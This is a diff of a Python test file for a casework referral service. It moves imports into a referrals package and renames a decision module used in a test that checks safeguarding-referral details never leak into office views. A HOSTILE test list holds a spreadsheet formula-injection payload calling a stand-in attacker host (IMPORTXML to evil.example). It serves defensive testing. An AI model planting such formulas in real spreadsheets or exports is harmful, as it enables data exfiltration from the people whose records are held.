@@ -7,11 +7,12 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from service.casework import decisions
-from service.casework.intake import fit
 from service.casework.records import OFFICE, RESTRICTED, DayOff, RowRef
-from service.casework.safeguarding import readers
-from tests.casework.a_desk import NOW, SETTINGS, STAFF, Office, person, response
+from service.casework.referrals import coordinator_decision
+from service.casework.referrals.intake import fit
+from service.casework.referrals.safeguarding import readers
+
+from .a_desk import NOW, SETTINGS, STAFF, Office, person, response
 
 HOSTILE = [
     '=IMPORTXML("https://evil.example","//x")',
@@ -156,7 +157,7 @@ def test_nothing_of_a_safety_referral_is_in_office_or_on_attention_whatever_happ
     assert office.asked()["R-0031:held"].row.workbook == OFFICE
     office.type("R-0031", decision="")
     office.type("R-0031", RESTRICTED, student="Ana Silvia", decision="Accept")
-    reasons = [want.because for want in decisions.decide(office.desk).cells]
+    reasons = [want.because for want in coordinator_decision.decide(office.desk).cells]
     shown = repr(office.problems) + repr(office.office()) + repr(reasons)
     assert not any(secret in shown for secret in (*SECRETS, "Ana", "Silva", "0142"))
 
